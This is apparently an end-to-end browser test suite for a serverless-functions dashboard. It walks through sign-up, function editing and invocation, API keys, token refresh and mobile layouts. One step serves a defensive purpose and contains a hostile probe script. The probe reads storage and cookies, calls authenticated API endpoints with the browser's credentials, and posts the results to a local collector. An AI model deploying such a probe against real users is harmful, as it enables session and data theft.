// End-to-end test of the dashboard: the real `voltrun serve` binary (namespace sandbox, a
// fresh data dir, port 0) driven through Debian's Chromium by playwright-core. One user walks
// the whole flow; every step is a test, in order. Any console error or page error that a step
// did not expect fails the run. Screenshots go to e2e/screenshots/ (gitignored).
//
//   npm run e2e                         builds target/debug/voltrun with cargo first
//   VOLTRUN_BIN=/path/to/voltrun npm run e2e     uses that binary as it is
//   CHROMIUM=/path/to/chromium          another Chromium (default /usr/bin/chromium)
//   VOLTRUN_E2E_SANDBOX=process         the development tier, when not root

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { WEB, buildVoltrun, launchChromium, startServer, stopServer } from './harness.mjs';

const SHOTS = path.join(WEB, 'e2e', 'screenshots');
const STEP_TIMEOUT = 30_000;

const EMAIL = `ada-${Date.now()}@example.com`;
const PASSWORD = 'correct horse battery';

const PY_CODE = [
  'import time',
  '',
  '',
  'def handler(event, context):',
  '    print("hello from e2e", event.get("name"))',
  '    if event.get("fail"):',
  '        raise ValueError("asked to fail")',
  '    for i in range(event.get("steps", 0)):',
  // A long line: the server streams output once it is longer than its run marker (41 bytes).
  '        print("step", i + 1, "of", event["steps"], "." * 64)',
  '        time.sleep(1)',
  '    return {"greeting": "Hello, " + event["name"] + "!", "version": context.function_version}',
  '',
].join('\n');

let server; // { child, urls, log } from harness.mjs
let base; // http://127.0.0.1:PORT
let triggerBase; // the trigger listener, an origin of its own
let dataDir;
let browser;
let context;
let page;
let fnUrl; // the function page's URL
const problems = []; // unexpected console errors and page errors
let allowed = []; // patterns of console errors the current step expects

function watch(p, label) {
  p.on('console', (m) => {
    if (m.type() !== 'error') return;
    const text = m.text();
    const i = allowed.findIndex((re) => re.test(text));
    if (i >= 0) {
      allowed.splice(i, 1); // each allowance covers one message
      return;
    }
    problems.push(`[${label}] console.error: ${text} (${m.location()?.url ?? ''})`);
  });
  p.on('pageerror', (e) => problems.push(`[${label}] page error: ${e.stack ?? e}`));
}

/** Runs `fn` with console errors matching `patterns` (one each) expected. */
async function expectingConsoleErrors(patterns, fn) {
  allowed = [...patterns];
  try {
    await fn();
  } finally {
    allowed = [];
  }
}

/** A full-page screenshot from the top; toasts (fixed to the viewport) are left out. */
async function shot(p, name, { toasts = false } = {}) {
  await p.waitForTimeout(250); // let transitions settle
  await p.evaluate(() => window.scrollTo(0, 0));
  const style = toasts ? null : await p.addStyleTag({ content: '.toasts { display: none !important; }' });
  await p.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });
  await style?.evaluate((el) => el.remove());
}

before(async () => {
  mkdirSync(SHOTS, { recursive: true });
  buildVoltrun();
  dataDir = mkdtempSync(path.join(tmpdir(), 'voltrun-e2e-'));
  server = await startServer(dataDir, ['--trigger-listen', '127.0.0.1:0'], [/voltrun listening on (http:\/\/\S+)/, /voltrun triggers listening on (http:\/\/\S+)/]);
  [base, triggerBase] = server.urls;
  browser = await launchChromium();
  context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base });
  page = await context.newPage();
  page.setDefaultTimeout(STEP_TIMEOUT);
  watch(page, 'desktop');
});

after(async () => {
  await browser?.close().catch(() => {});
  await stopServer(server?.child);
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  if (problems.length) console.error(`server log:\n${(server?.log() ?? '').slice(-4000)}`);
});

let apiTokenCache;
/** An access token of the e2e user for calls from outside the browser (the page keeps its own in memory only). */
async function apiToken() {
  if (!apiTokenCache) {
    const r = await fetch(`${base}/api/auth/login`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ email: EMAIL, password: PASSWORD }),
    });
    assert.equal(r.status, 200);
    apiTokenCache = (await r.json()).token;
  }
  return apiTokenCache;
}

/** Each step also fails on console errors it did not expect. */
function step(name, fn) {
  test(name, { timeout: 120_000 }, async () => {
    const before = problems.length;
    await fn();
    assert.deepEqual(problems.slice(before), [], 'unexpected console errors');
  });
}

/**
 * Replaces the content of the Monaco editor inside `container` as a person would: select all
 * and paste (typing multi-line code key by key would fight the editor's auto-indent).
 */
async function pasteInEditor(p, container, text) {
  const editor = p.locator(container).locator('.monaco-editor').first();
  await editor.waitFor();
  await editor.click();
  await p.evaluate((t) => navigator.clipboard.writeText(t), text);
  await p.keyboard.press('Control+A');
  await p.keyboard.press('Control+V');
  await p.waitForFunction(
    ([sel, first]) => document.querySelector(sel)?.querySelector('.view-lines')?.textContent.replace(/\u00a0/g, ' ').includes(first),
    [container, text.split('\n')[0]],
  );
}

step('the landing page invites to sign up', async () => {
  await page.goto(base + '/');
  await page.getByRole('heading', { name: /Serverless functions/ }).waitFor();
  await shot(page, 'landing');
  await page.getByRole('link', { name: 'Sign up' }).click();
  await page.waitForURL(/\/register$/);
});

step('register', async () => {
  await page.getByLabel('Name').fill('Ada Lovelace');
  await page.getByLabel('Email').fill(EMAIL);
  await page.getByLabel('Password').fill('short');
  // The API's validation message is shown as it is.
  await expectingConsoleErrors([/status of 400/], async () => {
    await page.getByRole('button', { name: 'Create account' }).click();
    await page.getByRole('alert').getByText(/password/i).waitFor();
  });
  await page.getByLabel('Password').fill(PASSWORD);
  await shot(page, 'register');
  await page.getByLabel('Password').press('Enter'); // the form submits from the keyboard
  await page.waitForURL(/\/functions$/);
  await page.getByText('No functions yet').waitFor();
  await page.locator('.account-email', { hasText: 'Ada Lovelace' }).waitFor();
  await shot(page, 'functions-empty');
});

step('create a Python function in the editor', async () => {
  await page.getByRole('link', { name: 'New function' }).click();
  await page.waitForURL(/\/functions\/new$/);
  await page.getByLabel('Name').fill('hello-e2e');
  await page.getByLabel('Runtime').selectOption('python3.11');
  await page.locator('[data-testid="editor-python"]').waitFor();
  await pasteInEditor(page, '[data-testid="editor-python"]', PY_CODE);
  // and a line typed key by key
  await page.keyboard.press('Control+Home');
  await page.keyboard.type('# typed in the dashboard\n');
  await page.getByLabel('Memory (MiB)').fill('9999');
  await page.getByLabel('HTTP route').fill('e2e/hello');
  // An out-of-range value: the API's message appears next to the field.
  await expectingConsoleErrors([/status of 400/], async () => {
    await page.getByRole('button', { name: 'Create function' }).first().click();
    await page.locator('#f-memory-err').waitFor();
  });
  assert.match(await page.locator('#f-memory-err').innerText(), /memory/);
  assert.equal(await page.getByLabel('Memory (MiB)').getAttribute('aria-invalid'), 'true');
  await shot(page, 'function-validation');
  await page.getByLabel('Memory (MiB)').fill('256');
  await page.getByRole('button', { name: 'Create function' }).first().click();
  await page.waitForURL(/\/functions\/fn_[^/]+$/);
  fnUrl = page.url();
  await page.getByRole('heading', { name: /hello-e2e/ }).waitFor();
  await page.getByTestId('toast').getByText('Created hello-e2e').waitFor();
  // What was typed is what was stored, indentation included.
  const id = fnUrl.split('/').pop();
  const r = await fetch(`${base}/api/functions/${id}`, { headers: { Authorization: `Bearer ${await apiToken()}` } });
  const stored = (await r.json()).code;
  assert.equal(stored, '# typed in the dashboard\n' + PY_CODE);
});

step('the edit page shows the code with Python highlighting', async () => {
  await page.getByRole('link', { name: 'Edit' }).click();
  await page.waitForURL(/\/edit$/);
  const editor = page.locator('[data-testid="editor-python"] .monaco-editor');
  await editor.waitFor();
  await page.locator('[data-testid="editor-python"] .view-lines').getByText('def handler(event, context):').waitFor();
  // Monaco's tokenizer gives keywords their own class: highlighting is on.
  const classes = await page.locator('[data-testid="editor-python"] .view-line span span').evaluateAll((els) => new Set(els.map((e) => e.className)).size);
  assert.ok(classes >= 3, `expected several token classes, got ${classes}`);
  await shot(page, 'function-edit');
  await page.getByRole('link', { name: 'Cancel' }).first().click();
  await page.waitForURL(fnUrl);
});

step('invoke with JSON and see output, logs and duration', async () => {
  await pasteInEditor(page, '[data-testid="editor-json"]', '{"name": "Ada"}');
  await page.getByTestId('invoke').click();
  const detail = page.locator('.invoke-result [data-testid="execution-detail"]');
  await detail.waitFor();
  assert.equal(await detail.getAttribute('data-status'), 'success');
  await detail.getByTestId('exec-output').getByText('"Hello, Ada!"').waitFor();
  assert.match(await detail.getByTestId('exec-logs').innerText(), /hello from e2e Ada/);
  assert.match(await detail.getByTestId('duration').innerText(), /\d.*(ms|s)$/);
  await page.getByTestId('history-table').locator('tbody tr').first().waitFor();
  await shot(page, 'function-invoke');
});

step('a failing run shows its error', async () => {
  await pasteInEditor(page, '[data-testid="editor-json"]', '{"name": "Bob", "fail": true}');
  await page.getByTestId('invoke').click();
  const detail = page.locator('.invoke-result [data-testid="execution-detail"][data-status="failed"]');
  await detail.waitFor();
  assert.match(await detail.getByTestId('exec-error').innerText(), /HandlerError.*asked to fail/s);
  await page.getByTestId('toast').getByText(/failed: HandlerError/).first().waitFor();
});

step('an async run streams its logs live', async () => {
  await pasteInEditor(page, '[data-testid="editor-json"]', '{"name": "Live", "steps": 3}');
  await page.getByLabel('Run asynchronously').check();
  await page.getByTestId('invoke').click();
  const detail = page.locator('.invoke-result [data-testid="execution-detail"]');
  // While it runs: the live marker and the first lines, before the run ends.
  await detail.getByTestId('live').waitFor();
  await detail.getByTestId('exec-logs').getByText(/step 1/).waitFor();
  assert.notEqual(await detail.getAttribute('data-status'), 'success');
  await shot(page, 'function-live');
  await page.locator('.invoke-result [data-testid="execution-detail"][data-status="success"]').waitFor({ timeout: 30_000 });
  assert.match(await detail.getByTestId('exec-logs').innerText(), /step 1 of 3 \.+\nstep 2 of 3 \.+\nstep 3 of 3 \.+\n/);
  await detail.getByTestId('exec-output').getByText('"Hello, Live!"').waitFor();
  await page.getByLabel('Run asynchronously').uncheck();
});

step('the functions list shows runtime, last run and invocations', async () => {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Functions' }).click();
  const row = page.getByTestId('functions-table').locator('tbody tr', { hasText: 'hello-e2e' });
  await row.waitFor();
  await row.getByText('Python 3.11').waitFor();
  await row.locator('[data-status="success"]').waitFor();
  await row.locator('td.num', { hasText: '3' }).waitFor();
  await shot(page, 'functions');
});

step('the executions page filters by status and opens a run', async () => {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Executions' }).click();
  await page.waitForURL(/\/executions$/);
  const rows = page.getByTestId('executions-table').locator('tbody tr');
  await rows.nth(2).waitFor();
  assert.equal(await rows.count(), 3);
  await page.getByLabel('Status').selectOption('failed');
  await page.waitForURL(/status=failed/);
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="executions-table"] tbody tr').length === 1);
  assert.equal(await rows.first().locator('[data-status]').getAttribute('data-status'), 'failed');
  await shot(page, 'executions-failed');
  await rows.first().focus();
  await page.keyboard.press('Enter'); // rows open from the keyboard
  const drawer = page.getByRole('dialog');
  await drawer.getByTestId('exec-error').waitFor();
  assert.match(await drawer.getByTestId('exec-error').innerText(), /HandlerError: ValueError: asked to fail/);
  assert.match(await drawer.getByTestId('exec-input').innerText(), /"fail": true/);
  assert.match(await drawer.getByTestId('exec-logs').innerText(), /hello from e2e Bob/);
  await shot(page, 'execution-drawer');
  await page.keyboard.press('Escape');
  await drawer.waitFor({ state: 'detached' });
  await page.getByLabel('Status').selectOption('success');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="executions-table"] tbody tr').length === 2);
  const statuses = await rows.locator('[data-status]').evaluateAll((els) => els.map((e) => e.dataset.status));
  assert.deepEqual(statuses, ['success', 'success']);
  await page.getByLabel('Status').selectOption('');
  await rows.nth(2).waitFor();
  await shot(page, 'executions');
});

step('create an API key, see it once, copy it, delete it', async () => {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'API keys' }).click();
  await page.getByText('No API keys').waitFor();
  await page.getByLabel('Name').fill('ci');
  await page.getByLabel('Expires').selectOption('90');
  await page.getByRole('button', { name: 'Create key' }).click();
  const key = await page.getByTestId('new-key-value').inputValue();
  assert.match(key, /^vr_[A-Za-z0-9_-]{20,}$/);
  const row = page.getByTestId('keys-table').locator('tbody tr', { hasText: 'ci' });
  await row.waitFor();
  assert.ok(key.startsWith((await row.locator('code').innerText()).replace('…', '')));
  await page.getByRole('button', { name: 'Copy' }).click();
  await page.getByTestId('toast').getByText('Key copied to the clipboard').waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), key);
  // The key works against the API (from outside the browser).
  const me = await fetch(`${base}/api/auth/me`, { headers: { 'X-API-Key': key } });
  assert.equal(me.status, 200);
  await shot(page, 'keys-created', { toasts: true });
  await page.getByRole('button', { name: 'I have stored it' }).click();
  await page.getByTestId('new-key').waitFor({ state: 'detached' });
  await row.getByRole('button', { name: 'Delete' }).click();
  await row.getByRole('button', { name: 'Delete key' }).click();
  await page.getByTestId('toast').getByText('Deleted key ci').waitFor();
  await page.getByText('No API keys').waitFor();
  const gone = await fetch(`${base}/api/auth/me`, { headers: { 'X-API-Key': key } });
  assert.equal(gone.status, 401);
});

step('the statistics page renders charts', async () => {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Statistics' }).click();
  const chart = page.getByTestId('chart-invocations');
  await chart.locator('svg').waitFor();
  assert.ok((await chart.locator('rect.bar-ok').count()) >= 1, 'a bar for the successful runs');
  assert.ok((await chart.locator('rect.bar-err').count()) >= 1, 'a bar for the failed run');
  await page.getByTestId('chart-duration').locator('circle.dot').first().waitFor();
  assert.match(await page.getByTestId('chart-success').innerText(), /67%|66\.7%/);
  await page.locator('.stat', { hasText: 'Runs, 24 h' }).getByText('3', { exact: true }).waitFor();
  await shot(page, 'statistics');
});

step('a Node.js function gets JavaScript highlighting and runs', async () => {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Functions' }).click();
  await page.getByRole('link', { name: 'New function' }).click();
  await page.getByLabel('Name').fill('hello-node');
  await page.getByLabel('Runtime').selectOption('nodejs20');
  // The untouched template follows the runtime, and the editor switches language.
  const editor = page.locator('[data-testid="editor-javascript"]');
  await editor.locator('.view-lines').getByText('exports.handler = async (event, context) => {').waitFor();
  await page.getByText('(index.js)').waitFor();
  await shot(page, 'function-new-node');
  await page.getByRole('button', { name: 'Create function' }).first().click();
  await page.waitForURL(/\/functions\/fn_[^/]+$/);
  await page.getByRole('heading', { name: /hello-node/ }).getByText('Node.js 20').waitFor();
  await page.locator('[data-testid="editor-json"] .monaco-editor').waitFor();
  await page.getByTestId('invoke').click();
  const detail = page.locator('.invoke-result [data-testid="execution-detail"][data-status="success"]');
  await detail.getByTestId('exec-output').getByText('"Hello, VoltRun!"').waitFor();
  assert.match(await detail.getByTestId('exec-logs').innerText(), /Hello from hello-node/);
});

step('an expired access token is refreshed once and the call retried', async () => {
  // The access token lives in the page's memory only: make the server's answer say it expired.
  let rejected = 0;
  const functionsPage = (url) => url.pathname === '/api/functions' && url.search === '?limit=50';
  await page.route(functionsPage, async (route) => {
    if (rejected++ === 0) {
      await route.fulfill({ status: 401, contentType: 'application/json', body: '{"error":{"code":"unauthorized","message":"invalid or expired token"}}' });
    } else {
      await route.continue();
    }
  });
  const refreshes = [];
  const onResponse = (r) => {
    if (r.url().endsWith('/api/auth/refresh')) refreshes.push(r.status());
  };
  page.on('response', onResponse);
  try {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Executions' }).click();
    await page.waitForURL(/\/executions$/);
    await expectingConsoleErrors([/status of 401/], async () => {
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Functions' }).click();
      await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
    });
  } finally {
    page.off('response', onResponse);
    await page.unroute(functionsPage);
  }
  assert.ok(rejected >= 2, 'the call was retried');
  assert.deepEqual(refreshes, [200], 'one refresh, from the cookie');
});

step('the session is in no script-readable place and survives a reload', async () => {
  const seen = await page.evaluate(() => ({
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookie: document.cookie,
  }));
  assert.deepEqual(seen, { local: '{}', session: '{}', cookie: '' });
  const cookies = await context.cookies();
  const c = cookies.find((c) => c.name === 'voltrun_refresh');
  assert.ok(c, `the refresh cookie is stored: ${JSON.stringify(cookies)}`);
  assert.deepEqual([c.httpOnly, c.secure, c.sameSite, c.path], [true, true, 'Strict', '/api/auth']);
  await page.reload();
  await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
  await page.locator('.account-email', { hasText: 'Ada Lovelace' }).waitFor();
});

step('two tabs restoring at once both stay signed in', async () => {
  const [a, b] = [await context.newPage(), await context.newPage()];
  watch(a, 'tab-a');
  watch(b, 'tab-b');
  await Promise.all([a.goto(base + '/functions'), b.goto(base + '/keys')]);
  await a.getByTestId('functions-table').getByText('hello-e2e').waitFor();
  await b.getByText('No API keys').waitFor();
  await a.close();
  await b.close();
  // The family was not revoked by the two refreshes: this tab still refreshes after a reload.
  await page.reload();
  await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
});

/** A collector on 127.0.0.1 that records what hostile pages report. */
function startCollector() {
  const reports = [];
  const srv = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      if (req.method === 'POST') reports.push(body);
      res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
      res.end();
    });
  });
  return new Promise((resolve) => srv.listen(0, '127.0.0.1', () => resolve({ srv, reports, url: `http://127.0.0.1:${srv.address().port}/` })));
}

/** What a hostile script tries: the storages, the cookies, and the API with the browser's credentials. */
async function probe(main) {
  const r = { origin: location.origin };
  const attempt = async (k, f) => {
    try {
      r[k] = await f();
    } catch (e) {
      r[k] = 'error: ' + e.name;
    }
  };
  await attempt('local', () => JSON.stringify({ ...localStorage }));
  await attempt('session', () => JSON.stringify({ ...sessionStorage }));
  await attempt('cookie', () => document.cookie);
  const call = async (url, init) => {
    const resp = await fetch(url, init);
    return resp.status + ' ' + (await resp.text());
  };
  await attempt('refresh', () => call(main + '/api/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'X-VoltRun-Session': 'cookie' } }));
  await attempt('refreshSimple', () => call(main + '/api/auth/refresh', { method: 'POST', credentials: 'include', body: '{}' }));
  await attempt('logout', () => call(main + '/api/auth/logout', { method: 'POST', credentials: 'include', headers: { 'X-VoltRun-Session': 'cookie' } }));
  await attempt('functions', () => call(main + '/api/functions', { credentials: 'include' }));
  return r;
}

/** Asserts a probe's results hold no token and no data of the user's. */
function assertNothingLeaked(what, r) {
  const text = JSON.stringify(r);
  assert.ok(!/eyJ[A-Za-z0-9_-]{10,}/.test(text), `${what}: a token leaked: ${text}`);
  assert.ok(!text.includes('voltrun_refresh'), `${what}: the cookie leaked: ${text}`);
  assert.ok(!text.includes('hello-e2e'), `${what}: the user's data leaked: ${text}`);
  for (const k of ['refresh', 'refreshSimple', 'logout', 'functions']) {
    assert.ok(!String(r[k]).startsWith('2'), `${what}: ${k} succeeded: ${r[k]}`);
  }
}

step('a hostile public trigger page cannot read or use the session', async () => {
  const collector = await startCollector();
  try {
    const html = `<!doctype html><title>hostile</title><script>
      document.title = 'ran';
      (${probe.toString()})(${JSON.stringify(base)}).then(async (r) => {
        await fetch(${JSON.stringify(collector.url)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(r) });
        document.title = 'reported';
      });
    </script>`;
    const code = `import json\nHTML = json.loads(${JSON.stringify(JSON.stringify(html))})\n\ndef handler(event, context):\n    return {'statusCode': 200, 'headers': {'content-type': 'text/html'}, 'body': HTML}\n`;
    const r = await fetch(`${base}/api/functions`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${await apiToken()}` },
      body: JSON.stringify({ name: 'evil-page', runtime: 'python3.11', code, route: 'evil', public: true }),
    });
    assert.equal(r.status, 201, await r.text());

    // On the dashboard's origin the page runs under CSP sandbox: its script never runs ...
    const shared = await context.newPage();
    await shared.goto(base + '/api/execute/evil');
    assert.equal(await shared.title(), 'hostile', 'the inline script ran on the dashboard origin');
    // ... and a script that ran anyway (injected through DevTools, past the CSP) has an opaque
    // origin: no storage, no cookies, and the API refuses it.
    assertNothingLeaked('shared origin', await shared.evaluate(probe, base));
    await shared.close();

    // On the trigger listener the page's script runs (no CSP sandbox there) and reports.
    const own = await context.newPage();
    await own.goto(triggerBase + '/evil');
    await own.waitForFunction(() => document.title === 'reported', null, { timeout: 20_000 });
    await own.close();
    assert.equal(collector.reports.length, 1, 'one report from the trigger origin');
    const report = JSON.parse(collector.reports[0]);
    assert.equal(report.origin, triggerBase);
    assertNothingLeaked('trigger origin', report);

    // The dashboard still works, and its session survives a reload (nothing was rotated or revoked).
    await page.reload();
    await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
  } finally {
    collector.srv.close();
  }
});

step('unknown pages show the dashboard not-found page', async () => {
  await page.goto(base + '/no/such/page');
  await page.getByRole('heading', { name: 'Page not found' }).waitFor();
});

step('390 px wide: log in and use every page', async () => {
  const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
  const p = await phone.newPage();
  p.setDefaultTimeout(STEP_TIMEOUT);
  watch(p, 'phone');
  const noOverflow = async (what) => {
    const w = await p.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(w <= 390, `${what}: the page is ${w}px wide`);
  };
  await p.goto(base + '/functions');
  await p.waitForURL(/\/login\?next=/);
  await p.getByLabel('Email').fill(EMAIL);
  await p.getByLabel('Password').fill(PASSWORD);
  await shot(p, 'mobile-login');
  await p.getByRole('button', { name: 'Log in' }).click();
  await p.waitForURL(/\/functions$/);
  await p.getByTestId('functions-table').getByText('hello-e2e').waitFor();
  await noOverflow('functions');
  await shot(p, 'mobile-functions');
  await p.getByTestId('functions-table').getByText('hello-e2e').click();
  await p.locator('.invoke-result').waitFor();
  await p.locator('[data-testid="editor-json"] .monaco-editor').waitFor();
  await p.getByTestId('history-table').locator('tbody tr').first().waitFor();
  await noOverflow('function');
  await shot(p, 'mobile-function');
  await p.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Executions' }).click();
  await p.getByTestId('executions-table').locator('tbody tr').nth(2).waitFor();
  await noOverflow('executions');
  await shot(p, 'mobile-executions');
  await p.getByTestId('executions-table').locator('tbody tr').first().click();
  await p.getByRole('dialog').getByTestId('exec-logs').waitFor();
  await shot(p, 'mobile-execution-drawer');
  await p.getByRole('button', { name: 'Close' }).click();
  await p.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'API keys' }).click();
  await p.getByText('No API keys').waitFor();
  await noOverflow('keys');
  await shot(p, 'mobile-keys');
  await p.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Statistics' }).click();
  await p.getByTestId('chart-invocations').locator('rect.bar-ok').first().waitFor();
  await noOverflow('statistics');
  await shot(p, 'mobile-statistics');
  await p.goto(base + '/');
  await noOverflow('landing');
  await shot(p, 'mobile-landing');
  await phone.close();
});

step('log out', async () => {
  await page.goto(base + '/functions');
  await page.getByRole('button', { name: 'Log out' }).click();
  await page.waitForURL(/\/login$/);
  assert.equal((await context.cookies()).find((c) => c.name === 'voltrun_refresh'), undefined, 'the cookie is cleared');
  await page.goto(base + '/keys');
  await page.waitForURL(/\/login\?next=%2Fkeys$/);
  await shot(page, 'login');
});
